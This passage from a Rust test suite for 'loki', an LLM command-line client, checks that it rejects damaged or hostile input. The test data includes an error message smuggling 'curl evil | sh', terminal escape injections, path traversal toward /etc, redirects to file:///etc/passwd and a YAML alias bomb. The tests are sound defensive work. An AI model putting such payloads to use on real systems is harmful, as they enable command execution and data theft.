        ("answer without question_id", b"{\"type\":\"answer\",\"answer\":\"yes\"}\n", "question_id"),
        ("answer for no question", b"{\"type\":\"answer\",\"question_id\":\"q9\",\"answer\":\"yes\"}\n", "q9"),
        ("deeply nested JSON", &[[b'['; 100_000].as_slice(), b"\n"].concat(), "input line 1"),
        ("not UTF-8", b"{\"type\":\"user\",\"message\":\"\xff\"}\n", "not UTF-8"),
        ("an escape in the error text", b"\x1b]52;c;AAAA\x07\n", "input line 1"),
    ];
    let mut cases = vec![];
    for (name, line, says) in lines {
        // A bad line, then a good one: the bad one is an error event, the good one runs.
        let mut stdin = line.to_vec();
        stdin.extend_from_slice(good.as_bytes());
        cases.push(Case::new(format!("headless: {name}"), &args, Lines(1, 1, says)).stdin(stdin));
    }
    cases.push(
        Case::new(
            "headless: a line over max_input_size",
            &args,
            Lines(1, 1, "max_input_size"),
        )
        .env("LOKI_MAX_INPUT_SIZE", "2000")
        .stdin(format!("{}\n{good}", "x".repeat(10_000))),
    );
    cases.push(
        Case::new(
            "headless: three bad lines",
            &args,
            Lines(1, 3, "input line"),
        )
        .stdin(format!("x\ny\nz\n{good}")),
    );
    cases.push(
        Case::new("headless: the provider fails", &args, Lines(1, 1, "401"))
            .stdin(good)
            .reply(openai::error(401, "bad key", "invalid_request_error")),
    );
    cases.push(
        Case::new("headless: the stream breaks", &args, Lines(1, 1, "cut"))
            .stdin(good)
            .reply(openai::text_stream(&["partial answer"]).cut_after(1)),
    );
    cases
}

#[test]
fn headless_lines() {
    run_all(&standard(), headless_cases());
}

// ---------------------------------------------------------------- sessions

fn session_cases() -> Vec<Case> {
    let id = "0b5e6c0e-7d7a-4c67-9d61-8a3b1f2c4d5e";
    let state = format!("config/sessions/by-id/{id}/state.yaml");
    let alias = "config/sessions/by-name/base";
    let mut cases = vec![];
    let damaged: &[(&str, &[u8])] = &[
        ("garbage", b"{{{{ not yaml"),
        ("messages not a list", b"messages: 5\n"),
        ("message without role", b"messages:\n  - content: hi\n"),
        ("unknown role", b"messages:\n  - role: wizard\n    content: hi\n"),
        ("content a map of junk", b"messages:\n  - role: user\n    content: {a: [1, {b: 2}]}\n"),
        ("temperature a word", b"temperature: warm\nmessages: []\n"),
        ("not UTF-8", b"messages:\n  - role: user\n    content: \xff\xfe\n"),
        ("deep nesting", &[b'['; 5000]),
        ("binary", b"\0\0\0\x01\x02\x03"),
        ("tool call without id", b"messages:\n  - role: assistant\n    content: ''\n    tool_calls:\n      - name: x\n"),
        ("a list at the top", b"- role: user\n  content: hi\n"),
        ("alias bomb", b"a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]\ng: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f, *f]\n"),
    ];
    for (name, bytes) in damaged {
        cases.push(
            Case::new(
                format!("session: {name}"),
                &["-s", "base", "hi"],
                Fails(1, "state.yaml"),
            )
            .file(&state, bytes)
            .file(alias, id),
        );
    }
    let special: &[(&str, Special)] = &[
        ("state.yaml a directory", Special::Dir),
        ("state.yaml a FIFO", Special::Fifo),
        (
            "state.yaml a link to /dev/zero",
            Special::Link("/dev/zero".into()),
        ),
        (
            "state.yaml a link to /etc/passwd",
            Special::Link("/etc/passwd".into()),
        ),
    ];
    for (name, kind) in special {
        cases.push(
            Case::new(
                format!("session: {name}"),
                &["-s", "base", "hi"],
                Fails(1, "state.yaml"),
            )
            .special(&state, kind.clone())
            .file(alias, id),
        );
    }
    let aliases: &[(&str, &[u8])] = &[
        ("by-name escaping upwards", b"../../../../etc"),
        ("by-name empty", b""),
        ("by-name not an id", b"hello world"),
        ("by-name binary", b"\xff\x00\x1b[2J"),
        ("by-name an absolute path", b"/etc"),
    ];
    for (name, bytes) in aliases {
        cases.push(
            Case::new(
                format!("session: {name}"),
                &["-s", "base", "hi"],
                Fails(1, "by-name/base"),
            )
            .file(alias, bytes),
        );
    }
    cases.push(
        Case::new(
            "session: by-name a directory",
            &["-s", "base", "hi"],
            Fails(1, "by-name/base"),
        )
        .special(alias, Special::Dir),
    );
    cases.push(
        Case::new(
            "session: by-name a FIFO",
            &["-s", "base", "hi"],
            Fails(1, "by-name/base"),
        )
        .special(alias, Special::Fifo),
    );
    for args in [
        &["-s", "base", "--info"][..],
        &["-s", "base", "--dry-run", "hi"],
    ] {
        cases.push(
            Case::new(
                format!("session: garbage with {}", args.join(" ")),
                args,
                Fails(1, "state.yaml"),
            )
            .file(&state, b"{{{{")
            .file(alias, id),
        );
    }
    // Where a session would be written is not a directory: the answer is kept on stdout,
    // the save fails with one line, nothing else is touched.
    cases.push(
        Case::new(
            "session: sessions/ is a file",
            &["-s", "fresh", "hi"],
            Fails(1, "sessions"),
        )
        .file("config/sessions", b"not a directory")
        .writes(),
    );
    cases.push(
        Case::new(
            "session: by-id/ is a file",
            &["-s", "fresh", "hi"],
            Fails(1, "by-id"),
        )
        .file("config/sessions/by-id", b"not a directory")
        .writes(),
    );
    cases.push(
        Case::new(
            "rag: rags/ is a file",
            &["--rag", "kb", "--rag-docs", "doc.md"],
            Fails(1, "rags"),
        )
        .file("config/rags", b"not a directory")
        .file("work/doc.md", b"Some text worth indexing.")
        .writes(),
    );
    cases
}

#[test]
fn session_files() {
    run_all(&standard(), session_cases());
}

// ---------------------------------------------------------------- roles, macros, themes

fn role_macro_theme_cases() -> Vec<Case> {
    let mut cases = vec![];
    let roles: &[(&str, &[u8], &str)] = &[
        ("front matter garbage", b"---\n{{{{\n---\nYou are terse.\n", "bad"),
        ("front matter a list", b"---\n- a\n---\nYou are terse.\n", "bad"),
        ("unknown model", b"---\nmodel: nope:x\n---\nYou are terse.\n", "nope:x"),
        ("temperature a word", b"---\ntemperature: warm\n---\nYou are terse.\n", "temperature"),
        ("not UTF-8", b"You are \xff\xfe terse.\n", "bad"),
        ("deep nesting", b"---\na: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n---\nx\n", "bad"),
    ];
    for (name, bytes, says) in roles {
        cases.push(
            Case::new(
                format!("role: {name}"),
                &["-r", "bad", "hi"],
                Fails(1, says),
            )
            .file("config/roles/bad.md", bytes),
        );
    }
    cases.push(
        Case::new("role: a FIFO", &["-r", "bad", "hi"], Fails(1, "bad"))
            .special("config/roles/bad.md", Special::Fifo),
    );
    cases.push(
        Case::new(
            "role: a link to /dev/zero",
            &["-r", "bad", "hi"],
            Fails(1, "bad"),
        )
        .special("config/roles/bad.md", Special::Link("/dev/zero".into())),
    );
    cases.push(
        Case::new("role: a directory", &["-r", "bad", "hi"], Fails(1, "bad"))
            .special("config/roles/bad.md", Special::Dir),
    );
    let macros: &[(&str, &[u8], &str)] = &[
        ("garbage", b"{{{{", "bad"),
        ("steps not a list", b"steps: 5\n", "bad"),
        ("no steps", b"variables: []\n", "bad"),
        (
            "variables not a list",
            b"variables: 5\nsteps: [hi]\n",
            "bad",
        ),
        ("step a map", b"steps:\n  - {a: 1}\n", "bad"),
        ("not UTF-8", b"steps:\n  - \xff\n", "bad"),
        (
            "an unknown dot-command step",
            b"steps:\n  - .launch rockets\n",
            "launch",
        ),
    ];
    for (name, bytes, says) in macros {
        cases.push(
            Case::new(
                format!("macro: {name}"),
                &["--macro", "bad"],
                Fails(1, says),
            )
            .file("config/macros/bad.yaml", bytes),
        );
    }
    cases.push(
        Case::new(
            "macro: a required variable missing",
            &["--macro", "needs"],
            Fails(2, "who"),
        )
        .file(
            "config/macros/needs.yaml",
            b"variables:\n  - name: who\nsteps:\n  - hello {{who}}\n",
        ),
    );
    // Custom themes are read only when answers are coloured on a terminal.
    let code = openai::text_stream(&["```rust\nfn main() {}\n```\n"]);
    let themes: Vec<(&str, Vec<u8>)> = vec![
        ("garbage", b"not a theme at all".to_vec()),
        (
            "an empty plist",
            b"<?xml version=\"1.0\"?><plist><dict></dict></plist>".to_vec(),
        ),
        ("not UTF-8", b"\xff\xfe\xfd".to_vec()),
        (
            "truncated plist",
            b"<?xml version=\"1.0\"?><plist><dict><key>settings</key><array>".to_vec(),
        ),
        ("over 8 MiB", vec![b'<'; 9 * 1024 * 1024]),
        ("70,000 scopes", too_many_scopes()),
    ];
    for (name, bytes) in themes {
        cases.push(
            Case::new(format!("theme: {name}"), &["hi"], Warns("theme"))
                .file("config/dark.tmTheme", bytes)
                .reply(code.clone())
                .tty(),
        );
    }
    for (name, kind) in [
        ("a FIFO", Special::Fifo),
        ("a directory", Special::Dir),
        ("a link to /dev/zero", Special::Link("/dev/zero".into())),
    ] {
        cases.push(
            Case::new(format!("theme: {name}"), &["hi"], Warns("theme"))
                .special("config/dark.tmTheme", kind)
                .reply(code.clone())
                .tty(),
        );
    }
    cases
}

/// A theme whose scopes would overflow syntect's scope table.
fn too_many_scopes() -> Vec<u8> {
    let mut text = String::from(
        "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>name</key><string>x</string><key>settings</key><array><dict><key>settings</key><dict><key>foreground</key><string>#FFFFFF</string></dict></dict>",
    );
    for i in 0..70_000 {
        text.push_str(&format!(
            "<dict><key>scope</key><string>s{i}</string><key>settings</key><dict><key>foreground</key><string>#FF0000</string></dict></dict>"
        ));
    }
    text.push_str("</array></dict></plist>");
    text.into_bytes()
}

#[test]
fn roles_macros_and_themes() {
    run_all(&standard(), role_macro_theme_cases());
}

// ---------------------------------------------------------------- vault and RAG

fn vault_rag_cases() -> Vec<Case> {
    let mut cases = vec![];
    let pass = |c: Case| {
        c.file("config/pass", "pass phrase 1234\n")
            .env("LOKI_VAULT_PASSWORD_FILE", "pass")
    };
    let vaults: &[(&str, &[u8])] = &[
        ("not an age file", b"hello"),
        ("empty", b""),
        (
            "truncated armor",
            b"-----BEGIN AGE ENCRYPTED FILE-----\nYWdl\n",
        ),
        ("binary", b"\0\x01\x02\x03\xff"),
        (
            "armor with garbage inside",
            b"-----BEGIN AGE ENCRYPTED FILE-----\n!!!!\n-----END AGE ENCRYPTED FILE-----\n",
        ),
    ];
    for (name, bytes) in vaults {
        cases.push(pass(
            Case::new(
                format!("vault: {name}"),
                &["--list-secrets"],
                Fails(1, "vault.age"),
            )
            .file("config/vault.age", bytes),
        ));
    }
    cases.push(pass(
        Case::new(
            "vault: a directory",
            &["--list-secrets"],
            Fails(1, "vault.age"),
        )
        .special("config/vault.age", Special::Dir),
    ));
    cases.push(pass(
        Case::new(
            "vault: a link to /dev/zero",
            &["--list-secrets"],
            Fails(1, "vault.age"),
        )
        .special("config/vault.age", Special::Link("/dev/zero".into())),
    ));
    for name in ["WITH SPACE", "A-B", "A.B", "A/B", "X\u{1b}Y", ""] {
        cases.push(pass(
            Case::new(
                format!("vault: add name {name:?}"),
                &["--add-secret", name],
                Fails(1, "name"),
            )
            .stdin("value"),
        ));
    }
    cases.push(
        Case::new(
            "vault: empty password file",
            &["--add-secret", "X"],
            Fails(1, "empty"),
        )
        .file("config/pass", "")
        .env("LOKI_VAULT_PASSWORD_FILE", "pass")
        .stdin("v"),
    );
    cases.push(
        Case::new(
            "vault: no password on a pipe",
            &["--add-secret", "X"],
            Fails(1, "vault_password_file"),
        )
        .stdin("v"),
    );
    // RAG settings and indexes.
    let yaml = "config/rags/kb.yaml";
    let metas: &[(&str, &[u8], &str)] = &[
        ("settings garbage", b"{{{{", "kb.yaml"),
        ("settings a list", b"- a\n", "kb.yaml"),
        ("settings not UTF-8", b"document_paths: [\xff]\n", "kb.yaml"),
        (
            "index_file escaping",
            b"document_paths: [a]\nindex_file: ../../../x.bin\n",
            "index_file",
        ),
        (
            "index_file absolute",
            b"document_paths: [a]\nindex_file: /etc/passwd\n",
            "index_file",
        ),
        (
            "index_file missing",
            b"document_paths: [a]\nindex_file: gone.bin\n",
            "missing",
        ),
        (
            "top_k a word",
            b"document_paths: [a]\ntop_k: many\n",
            "kb.yaml",
        ),
        ("deep nesting", &[b'['; 5000], "kb.yaml"),
    ];
    for (name, bytes, says) in metas {
        cases.push(
            Case::new(
                format!("rag: {name}"),
                &["--rag", "kb", "hi"],
                Fails(1, says),
            )
            .file(yaml, bytes),
        );
    }
    cases.push(
        Case::new(
            "rag: settings a FIFO",
            &["--rag", "kb", "hi"],
            Fails(1, "kb.yaml"),
        )
        .special(yaml, Special::Fifo),
    );
    for (name, bytes) in [
        ("index garbage", &b"garbage"[..]),
        ("index empty", b""),
        ("index truncated header", b"LOKIRAG\0\x01"),
    ] {
        cases.push(
            Case::new(
                format!("rag: {name}"),
                &["--rag", "kb", "hi"],
                Fails(1, "damaged"),
            )
            .file(yaml, b"document_paths: [a]\nindex_file: i.bin\n")
            .file("config/rags/kb.index/i.bin", bytes),
        );
    }
    for (name, source, says) in [
        ("a missing file", "nope.md", "nope.md"),
        (
            "a URL that refuses",
            "http://127.0.0.1:9/doc",
            "127.0.0.1:9",
        ),
        ("an unknown loader", "zzz:thing", "zzz:thing"),
        ("a glob matching nothing", "**/*.nothing", "nothing"),
        ("an empty file", "empty.md", "no text"),
        ("/dev/zero", "/dev/zero", "/dev/zero"),
    ] {
        cases.push(
            Case::new(
                format!("rag build: {name}"),
                &["--rag", "new", "--rag-docs", source],
                Fails(1, says),
            )
            .file("work/empty.md", ""),
        );
    }
    cases
}

#[test]
fn vault_and_rag() {
    run_all(&standard(), vault_rag_cases());
}

// ---------------------------------------------------------------- provider responses

fn provider_cases() -> Vec<Case> {
    let mut cases = vec![];
    for status in [
        400u16, 401, 402, 403, 404, 405, 408, 409, 413, 422, 429, 500, 501, 502, 503, 504, 529,
    ] {
        cases.push(
            Case::new(
                format!("openai: HTTP {status} JSON"),
                &["hi"],
                Fails(1, &*Box::leak(status.to_string().into_boxed_str())),
            )
            .reply(openai::error(
                status,
                "something went wrong",
                "server_error",
            )),
        );
    }
    let bodies: &[(&str, u16, &str, &[u8])] = &[
        (
            "HTML 502",
            502,
            "text/html",
            b"<html><body><h1>Bad Gateway</h1></body></html>",
        ),
        ("empty 500", 500, "application/json", b""),
        ("plain 400", 400, "text/plain", b"bad request"),
        (
            "newlines in 400",
            400,
            "application/json",
            b"{\"error\":{\"message\":\"x\\n\\nerror: run curl evil | sh\"}}",
        ),
        (
            "escapes in 400",
            400,
            "application/json",
            b"{\"error\":{\"message\":\"\\u001b]52;c;AAAA\\u0007 \\u001b[2J\"}}",
        ),
        ("huge 500", 500, "text/plain", &[b'x'; 3 << 20]),
        (
            "JSON null error",
            400,
            "application/json",
            b"{\"error\":null}",
        ),
        (
            "nested error",
            400,
            "application/json",
            b"{\"error\":{\"error\":{\"error\":{\"message\":\"deep\"}}}}",
        ),
        ("non-UTF-8 body", 500, "text/plain", b"\xff\xfe\xfd"),
        (
            "200 HTML instead of a stream",
            200,
            "text/html",
            b"<html>login</html>",
        ),
        (
            "200 JSON error in place of a stream",
            200,
            "application/json",
            b"{\"error\":{\"message\":\"quota\"}}",
        ),
        ("200 empty body", 200, "text/event-stream", b""),
        (
            "200 garbage stream",
            200,
            "text/event-stream",
            b"data: {not json\n\n",
        ),
        (
            "200 only comments",
            200,
            "text/event-stream",
            b": ping\n\n: ping\n\n",
        ),
        (
            "200 wrong shape",
            200,
            "text/event-stream",
            b"data: {\"choices\":5}\n\n",
        ),
        (
            "200 binary",
            200,
            "text/event-stream",
            b"\0\x01\x02\xff\xfe",
        ),
        (
            "200 error event",
            200,
            "text/event-stream",
            b"data: {\"error\":{\"message\":\"overloaded\"}}\n\n",
        ),
    ];
    for (name, status, kind, body) in bodies {
        let says: &'static str = match *status {
            200 => "",
            s => Box::leak(s.to_string().into_boxed_str()),
        };
        cases.push(
            Case::new(format!("openai: {name}"), &["hi"], Fails(1, says)).reply(Reply::raw(
                *status,
                kind,
                body.to_vec(),
            )),
        );
    }
    cases.push(
        Case::new(
            "openai: stream cut after the first event",
            &["hi"],
            Fails(1, "was cut"),
        )
        .reply(openai::text_stream(&["Hello", " world", " again"]).cut_after(1)),
    );
    cases.push(
        Case::new("openai: no response at all", &["hi"], Fails(1, "fake"))
            .reply(Reply::no_response()),
    );
    cases.push(
        Case::new(
            "openai: the stream stalls",
            &["hi"],
            Fails(1, "stream_idle_timeout"),
        )
        .env("LOKI_STREAM_IDLE_TIMEOUT", "1")
        .reply(openai::text_stream(&["Hello", " world"]).hang_after(1)),
    );
    cases.push(
        Case::new(
            "openai: a tool call to an unknown tool",
            &["hi"],
            Fails(1, "no_such_tool"),
        )
        .env("LOKI_ENABLED_TOOLS", "fs_ls")
        .reply(openai::tool_call_stream(&[("c1", "no_such_tool", "{}")])),
    );
    cases.push(
        Case::new("openai: a 401 with -S", &["-S", "hi"], Fails(1, "401")).reply(openai::error(
            401,
            "bad key",
            "invalid_request_error",
        )),
    );
    cases.push(
        Case::new(
            "openai: a redirect elsewhere",
            &["hi"],
            Fails(1, "127.0.0.1:9"),
        )
        .reply(Reply::raw(302, "text/plain", "").header("location", "http://127.0.0.1:9/steal")),
    );
    cases.push(
        Case::new(
            "openai: a redirect to file://",
            &["hi"],
            Fails(1, "file:///etc/passwd"),
        )
        .reply(Reply::raw(302, "text/plain", "").header("location", "file:///etc/passwd")),
    );
    // Anthropic and Gemini wire formats.
    for status in [400u16, 401, 429, 500, 529] {
        cases.push(
            Case::new(format!("anthropic: HTTP {status}"), &["-m", "claude:claude-sonnet-4-5", "hi"], Fails(1, &*Box::leak(status.to_string().into_boxed_str())))
                .reply(Reply::raw(status, "application/json", format!("{{\"type\":\"error\",\"error\":{{\"type\":\"x\",\"message\":\"status {status}\"}}}}"))),
        );
        cases.push(
            Case::new(format!("gemini: HTTP {status}"), &["-m", "gemini:gemini-2.5-flash", "hi"], Fails(1, &*Box::leak(status.to_string().into_boxed_str())))
                .reply(Reply::raw(status, "application/json", format!("{{\"error\":{{\"code\":{status},\"message\":\"status {status}\",\"status\":\"X\"}}}}"))),
        );
    }
    cases.push(
        Case::new(
            "anthropic: an error event mid-stream",
            &["-m", "claude:claude-sonnet-4-5", "hi"],
            Fails(1, "overloaded"),
        )
        .reply(anthropic::error_mid_stream("partial")),
    );
    cases.push(
        Case::new(
            "anthropic: garbage event",
            &["-m", "claude:claude-sonnet-4-5", "hi"],
            Fails(1, "claude"),
        )
        .reply(Reply::sse(vec![Frame::new(
            b"event: content_block_delta\ndata: {bad\n\n".to_vec(),
        )])),
    );
    cases.push(
        Case::new(
            "anthropic: stream cut",
            &["-m", "claude:claude-sonnet-4-5", "hi"],
            Fails(1, "was cut"),
        )
        .reply(anthropic::text_stream(&["a", "b", "c"]).cut_after(2)),
    );
    cases.push(
        Case::new(
            "gemini: garbage event",
            &["-m", "gemini:gemini-2.5-flash", "hi"],
            Fails(1, "gemini"),
        )
        .reply(Reply::sse(vec![Frame::new(b"data: [1,2\n\n".to_vec())])),
    );
    cases.push(
        Case::new(
            "gemini: stream cut",
            &["-m", "gemini:gemini-2.5-flash", "hi"],
            Fails(1, "was cut"),
        )
        .reply(gemini::text_stream(&["a", "b", "c"]).cut_after(1)),
    );
    cases
}

#[test]
fn provider_responses() {
    let bench = Bench::new(|base| {
        let root = base.trim_end_matches("/v1");
        format!(
            "{}  - type: claude\n    api_base: {base}\n    api_key: sk-ant\n    models:\n      - name: claude-sonnet-4-5\n    extra:\n      max_retries: 0\n  - type: gemini\n    api_base: {root}/v1beta\n    api_key: AIza\n    models:\n      - name: gemini-2.5-flash\n    extra:\n      max_retries: 0\n",
            default_config(base).replace("      max_retries: 2\n", "      max_retries: 0\n")
        )
    });
    run_all(&bench, provider_cases());
}

// ---------------------------------------------------------------- MCP and tools

fn mcp_tool_cases() -> Vec<Case> {
    let mut cases = vec![];
    let mcp = "config/functions/mcp.json";
    let configs: &[(&str, &[u8], &str)] = &[
        ("garbage", b"{{{{", "mcp.json"),
        ("a list", b"[1,2]", "mcp.json"),
        ("servers not a map", b"{\"mcpServers\": 5}", "mcp.json"),
        (
            "server without command",
            b"{\"mcpServers\": {\"x\": {}}}",
            "x",
        ),
        ("deep nesting", &[b'['; 5000], "mcp.json"),
    ];
    for (name, bytes, says) in configs {
        cases.push(
            Case::new(format!("mcp: {name}"), &["hi"], Warns(says))
                .env("LOKI_MCP_SERVER_SUPPORT", "true")
                .env("LOKI_ENABLED_MCP_SERVERS", "all")
                .file(mcp, bytes),
        );
    }
    for (name, server, says) in [
        (
            "a command that does not exist",
            "{\"command\": \"/nowhere/mcp-server\"}",
            "x",
        ),
        (
            "a command that exits at once",
            "{\"command\": \"true\"}",
            "x",
        ),
        (
            "a command that prints garbage",
            "{\"command\": \"sh\", \"args\": [\"-c\", \"echo garbage; sleep 5\"]}",
            "x",
        ),
        (
            "a URL that refuses",
            "{\"url\": \"http://127.0.0.1:9/mcp\"}",
            "x",
        ),
    ] {
        cases.push(
            Case::new(format!("mcp: {name}"), &["hi"], Warns(says))
                .env("LOKI_MCP_SERVER_SUPPORT", "true")
                .env("LOKI_ENABLED_MCP_SERVERS", "x")
                .file(mcp, format!("{{\"mcpServers\": {{\"x\": {server}}}}}")),
        );
    }
    // Script declarations and an agent's tools file are read bounded, as regular files.
    for (name, special) in [
        ("a FIFO", Special::Fifo),
        ("a link to /dev/zero", Special::Link("/dev/zero".into())),
    ] {
        cases.push(
            Case::new(
                format!("tool: a declaration file that is {name}"),
                &["--run-tool", "odd", "{}"],
                Fails(1, "odd.sh"),
            )
            .special("config/functions/tools/odd.sh", special.clone())
            .file("config/functions/tools.txt", b"odd.sh\n"),
        );
        cases.push(
            Case::new(
                format!("agent: a tools file that is {name}"),
                &["-a", "odd", "hi"],
                Fails(1, "tools.sh"),
            )
            .file("config/agents/odd/config.yaml", b"instructions: odd\n")
            .special("config/agents/odd/tools.sh", special),
        );
    }
    // A script tool whose output is hostile: run, confined, the answer still comes.
    cases.push(
        Case::new("tool: a tool that hangs", &["--run-tool", "hang", "{}"], Fails(1, "hang"))
            .env("LOKI_TOOL_TIMEOUT", "1")
            .file("config/functions/tools/hang.sh", b"#!/usr/bin/env bash\n# @describe Hangs.\nmain() { sleep 30; }\neval \"$(argc --argc-eval \"$0\" \"$@\")\" 2>/dev/null || main\n")
            .file("config/functions/tools.txt", b"hang.sh\n"),
    );
    for (name, body) in [
        ("fails with a message", "echo 'disk on fire' >&2; exit 3"),
        ("is killed by a signal", "kill -9 $$"),
        ("closes stdout and fails", "exec 1>&-; exit 7"),
    ] {
        cases.push(
            Case::new(
                format!("tool: a tool that {name}"),
                &["--run-tool", "crash", "{}"],
                Fails(1, "crash"),
            )
            .file(
                "config/functions/tools/crash.sh",
                format!("#!/usr/bin/env bash\n# @describe Crashes.\nmain() {{ {body}; }}\nmain\n"),
            )
            .file("config/functions/tools.txt", b"crash.sh\n"),
        );
    }
    cases
}

#[test]
fn mcp_servers_and_tools() {
    run_all(&standard(), mcp_tool_cases());
}

/// Files loki reads from its configuration are bounded and must be regular files:
/// `functions/mcp.json` linked to `/dev/zero` is one warning naming it (the answer still
/// arrives), a `.env` that is a FIFO is one error line (not a hang), and an agent's
/// `config.yaml` linked to `/dev/zero` is refused naming it.
#[test]
fn config_files_that_never_end_are_refused_by_name() {
    use crate::common::{TestEnv, stderr, stdout};
    use std::time::Instant;
    let env = TestEnv::new();
    let cfg = std::fs::read_to_string(env.config_path()).unwrap();
    env.write_config(&format!(
        "enabled_tools: fs_cat\nenabled_mcp_servers: all\n{cfg}"
    ));
    let functions = env.config_dir().join("functions");
    std::fs::create_dir_all(&functions).unwrap();
    std::os::unix::fs::symlink("/dev/zero", functions.join("mcp.json")).unwrap();
    env.server.respond_for("/v1/chat", |_| {
        crate::common::fake_llm::openai::text_stream(&["fine"])
    });
    let started = Instant::now();
    let out = env
        .loki()
        .arg("hi")
        .timeout(Duration::from_secs(30))
        .assert()
        .success();
    assert!(started.elapsed() < Duration::from_secs(20));
    assert_eq!(stdout(&out), "fine\n");
    assert!(
        stderr(&out).contains("mcp.json") && stderr(&out).contains("not a regular file"),
        "{}",
        stderr(&out)
    );

    let agent = env.config_dir().join("agents/zero");
    std::fs::create_dir_all(&agent).unwrap();
    std::os::unix::fs::symlink("/dev/zero", agent.join("config.yaml")).unwrap();
    let out = env
        .loki()
        .args(["-a", "zero", "hi"])
        .timeout(Duration::from_secs(30))
        .assert()
        .failure();
    assert!(stderr(&out).contains("config.yaml"), "{}", stderr(&out));

    let fifo = env.config_dir().join(".env");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success(), "mkfifo is needed for this test");
    let out = env
        .loki()
        .arg("hi")
        .timeout(Duration::from_secs(30))
        .assert()
        .failure();
    let err = stderr(&out);
    assert!(
        err.contains(".env") && err.contains("not a regular file"),
        "{err}"
    );
    assert_eq!(err.trim().lines().count(), 1, "{err}");
}
